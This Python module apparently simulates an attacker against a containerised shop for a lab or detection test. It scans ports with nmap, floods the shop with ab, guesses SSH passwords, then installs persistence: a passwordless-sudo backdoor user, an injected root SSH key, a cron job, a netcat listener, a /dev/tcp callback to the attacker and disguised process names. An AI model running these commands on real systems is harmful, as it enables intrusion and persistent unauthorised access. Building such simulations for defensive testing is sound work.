"""What the attacker does to a shop, from a container of its own: look around, flood, guess a password, and make itself at home."""

from __future__ import annotations

import shlex

from containers import Container
from shop import ATTACKER, OUTSIDE_PORT, address

PASSWORD = "summer"
WRONG = 6
UNKNOWN_USERS = ("admin", "oracle")
HIDDEN = "/var/lib/.cache/agent"
#: The attacker's own key.
KEY = "/var/tmp/key"

#: As anna, who may become root with the password that was guessed. Everything that is started stays when the connection ends.
AT_HOME = f"""
set -e
become() {{ echo {PASSWORD} | sudo -S -p '' "$@"; }}
start() {{ setsid "$@" > /dev/null 2>&1 < /dev/null & }}

cp /usr/bin/sleep /tmp/miner
start /tmp/miner 7771
cp /usr/bin/sleep /tmp/gone
start /tmp/gone 7772
until pgrep --full '^/tmp/gone' > /dev/null; do sleep 0.1; done
rm /tmp/gone
start bash -c 'exec -a "[kworker/0:1]" /usr/bin/sleep 7773'
start bash -c 'exec 3<>/dev/tcp/ATTACKER/{OUTSIDE_PORT}; read -r answer <&3'

become sh -ec '
mkdir /var/lib/.cache
cp /usr/bin/sleep {HIDDEN}
setsid {HIDDEN} 7774 > /dev/null 2>&1 < /dev/null &
setsid nc -lk 4444 > /dev/null 2>&1 < /dev/null &
echo "// fetch the cards" >> /opt/shop/server.js
useradd --create-home --shell /bin/bash support
echo "support ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/support
chmod 440 /etc/sudoers.d/support
mkdir -p -m 700 /root/.ssh /etc/cron.d
echo "KEY" >> /root/.ssh/authorized_keys
echo "* * * * * root {HIDDEN}" > /etc/cron.d/update
'
"""


def make_key() -> None:
    """Let the attacker have a key to leave behind."""
    ATTACKER.sh(f"test -f {KEY} || ssh-keygen -q -t ed25519 -N '' -f {KEY}")


def look_around(shop: Container) -> None:
    """Scan for ports, and for pages that might be there."""
    ATTACKER.sh(f"nmap --unprivileged -Pn -n -T4 -p 20-100,3000,8000 --script http-enum {address(shop)}")


def flood(shop: Container) -> None:
    """Ask 400 times for the same, 20 times at once."""
    ATTACKER.sh(f"ab -q -n 400 -c 20 http://{address(shop)}/api")


def log_in(shop: Container, user: str, password: str, who: Container = ATTACKER) -> bool:
    """Log in with a password; tell whether that was possible."""
    done = who.sh(f"{ssh(shop, user, password)} true < /dev/null 1>&2 && echo in || true")
    return done == "in\n"


def guess(shop: Container) -> None:
    """Try wrong passwords, for anna and for users that do not exist."""
    tries = [("anna", f"wrong{number}") for number in range(WRONG)] + [(user, "wrong") for user in UNKNOWN_USERS]
    ATTACKER.sh(" ".join(f"{ssh(shop, user, password)} true < /dev/null 2> /dev/null &" for user, password in tries) + " wait")


def make_itself_at_home(shop: Container) -> None:
    """Log in with the password that was guessed, and leave things behind."""
    script = AT_HOME.replace("ATTACKER", address(ATTACKER)).replace("KEY", ATTACKER.sh(f"cat {KEY}.pub").strip())
    ATTACKER.sh(f"{ssh(shop, 'anna', PASSWORD)} {shlex.quote(script)} < /dev/null")


def ssh(shop: Container, user: str, password: str) -> str:
    """Return the command that logs in with a password."""
    known = "-o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
    only_once = "-o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -o ConnectTimeout=30"
    return f"sshpass -p {password} ssh {known} {only_once} {user}@{address(shop)}"
